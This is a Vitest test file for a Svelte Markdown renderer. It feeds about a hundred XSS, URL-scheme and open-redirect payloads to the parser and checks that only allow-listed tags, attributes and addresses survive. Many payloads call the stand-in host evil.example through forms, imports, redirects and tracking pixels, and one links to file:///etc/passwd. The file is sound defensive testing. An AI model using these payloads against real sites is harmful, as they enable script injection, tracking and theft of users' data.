import { render } from 'svelte/server';
import { describe, expect, test } from 'vitest';
import Markdown from './Markdown.svelte';
import { parseMarkdown } from './parse.ts';

/** Ways to have a link, an image or a tag do what no author may do. */
const payloads = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<object data="data:text/html,<script>alert(1)</script>"></object>',
	'<embed src="//evil.example/x.swf">',
	'<base href="//evil.example/">',
	'<meta http-equiv="refresh" content="0;url=//evil.example">',
	'<link rel="stylesheet" href="//evil.example/x.css">',
	'<style>@import "//evil.example/x.css";</style>',
	'<form action="//evil.example"><input name=q></form>',
	'<a href="javascript:alert(1)">x</a>',
	'<details open ontoggle=alert(1)>',
	'<!--><img src=x onerror=alert(1)>-->',
	'<![CDATA[<img src=x onerror=alert(1)>]]>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'</div><script>alert(1)</script>',
	'{\u0040html "<img src=x onerror=alert(1)>"}',
	'{{constructor.constructor("alert(1)")()}}',
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x](javascript&colon;alert(1))',
	'[x](&#106;&#97;vascript:alert(1))',
	'[x](&#x6A;avascript:alert(1))',
	'[x](java&Tab;script:alert(1))',
	'[x](java&NewLine;script:alert(1))',
	'[x](<java\tscript:alert(1)>)',
	'[x](\u0001javascript:alert(1))',
	'[x](&#1;javascript:alert(1))',
	'[x](%6aavascript:alert(1))',
	'[x](javascript%3Aalert(1))',
	'[x](<javascript:alert(1)>)',
	'[x]( javascript:alert(1))',
	'[x](vbscript:msgbox(1))',
	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[x](data:image/svg+xml,<svg/onload=alert(1)>)',
	'[x](DATA:text/html,x)',
	'[x](blob:https://own.example/uuid)',
	'[x](filesystem:https://own.example/x)',
	'[x](file:///etc/passwd)',
	'[x](http://plain.example)',
	'[x](ftp://evil.example)',
	'[x](ws://evil.example)',
	'[x](intent://evil#Intent;scheme=http;end)',
	'[x](weixin://dl/business)',
	'[x](tel:110)',
	'[x](view-source:https://own.example)',
	'[x](//evil.example)',
	'[x](///evil.example)',
	'[x](/\\evil.example)',
	'[x](\\\\evil.example)',
	'[x](/%5cevil.example)',
	'[x](%2f%2fevil.example/%09)',
	'[x](&#47;&#47;evil.example)',
	'[x](/&#9;/evil.example)',
	'[x](/%09/evil.example)',
	'[x](/%0d%0aLocation:https://evil.example)',
	'[x](https:evil.example)',
	'[x](https:/evil.example)',
	'[x](https:///evil.example)',
	'[x](https://own.example@evil.example)',
	'[x](https://own.example:pw@evil.example)',
	'[x](https://other.example\u202e/moc.elpmaxe)',
	'[x](https://other.example\u00ad/)',
	'[x](mailto:a@b.example?bcc=all@evil.example&body=x)',
	'[x](mailto:a@b.example,c@d.example)',
	'[x](/%E0%A4%A)',
	'<javascript:alert(1)>',
	'<data:text/html,x>',
	'<//evil.example>',
	'[x][1]\n\n[1]: javascript:alert(1)',
	'[x][1]\n\n[1]: //evil.example "t"',
	'[x]\n\n[x]: <java\tscript:alert(1)>',
	'[![x](https://evil.example/x.png)](javascript:alert(1))',
	'![x](https://evil.example/pixel.png)',
	'![x](http://evil.example/pixel.png)',
	'![x](//evil.example/pixel.png)',
	'![x](data:image/svg+xml;base64,PHN2Zy8+)',
	'![x](data:image/png;base64,iVBORw0KGgo=)',
	'![x](blob:null/x)',
	'![x](mailto:a@b.example)',
	'![x](javascript:alert(1))',
	'![x](#x)',
	'![x][1]\n\n[1]: https://evil.example/x.png',
	'![x" onerror="alert(1)](/a.png)',
	'![x](/a.png "t\\" onerror=\\"alert(1)")',
	'[x](/a "t\' onmouseover=alert(1)")',
	'[x](/a\'"onmouseover=alert(1))',
	'# <img src=x onerror=alert(1)>',
	'## x {onclick=alert(1) #main}',
	'`</code><script>alert(1)</script>`',
	'```"><script>alert(1)</script>\nx\n```',
	'```html onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```',
	'|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
	'> <script>alert(1)</script>',
	'1. <svg onload=alert(1)>',
	'cod\u202exe.exe [x](/a)',
	'*<b onclick=alert(1)>*'
];

interface Addressed {
	type: string;
	href?: string;
	src?: string;
}

/** Every node of the tree that has an address. */
function addressed(value: unknown): Addressed[] {
	if (Array.isArray(value)) return value.flatMap(addressed);
	if (value === null || typeof value !== 'object') return [];
	const below = Object.values(value).flatMap(addressed);
	return 'href' in value || 'src' in value ? [value as Addressed, ...below] : below;
}

const elements = new Set(
	'div h1 h2 h3 h4 h5 h6 p ul ol li blockquote pre code hr table thead tbody tr th td em strong s a br img'.split(
		' '
	)
);
const attributes = new Set(
	'class id href title rel src alt loading decoding start scope tabindex data-language'.split(' ')
);

describe.each(payloads)('%j', (payload) => {
	const document = parseMarkdown(payload);

	test('leads nowhere but where the policy allows', () => {
		for (const { type, href, src } of addressed(document)) {
			const url = new URL(href ?? src ?? '', 'https://own.example/page');
			expect(['https:', 'mailto:']).toContain(url.protocol);
			expect([url.username, url.password]).toEqual(['', '']);
			expect(url.search).not.toContain('bcc');
			if (type === 'image') expect(url.origin).toBe('https://own.example');
			expect(url.hostname).not.toMatch(/evil/);
		}
	});

	test('shows no element and no attribute that is not one of ours', () => {
		const html = render(Markdown, { props: { document } }).body.replace(/<!--.*?-->/g, '');
		for (const [, name = '', rest = ''] of html.matchAll(
			/<([a-z][a-z0-9]*)((?:"[^"]*"|[^>"])*)>/gi
		)) {
			expect(elements).toContain(name);
			for (const [, attribute = ''] of rest.matchAll(/([^\s"=/]+)(?:="[^"]*")?/g))
				expect(attributes).toContain(attribute);
		}
		expect(html).not.toMatch(/<(?![a-z/!])/i);
		expect(html).not.toMatch(/[\u202a-\u202e]/);
	});
});

test('what is allowed stays allowed', () => {
	const allowed = [
		...['/help/about', 'help', '../a/b.md', '?page=2', '#s-概述', '/a%20b', '/%E6%A6%82'],
		...['https://www.mca.gov.cn/article', 'https://例子.测试/路径', 'mailto:zhixing@example.gov.cn']
	];
	for (const href of allowed) {
		expect(addressed(parseMarkdown(`[x](${href})`))).toHaveLength(1);
	}
	expect(addressed(parseMarkdown('![x](/images/图.png)'))).toHaveLength(1);
	expect(payloads.length).toBeGreaterThanOrEqual(60);
});
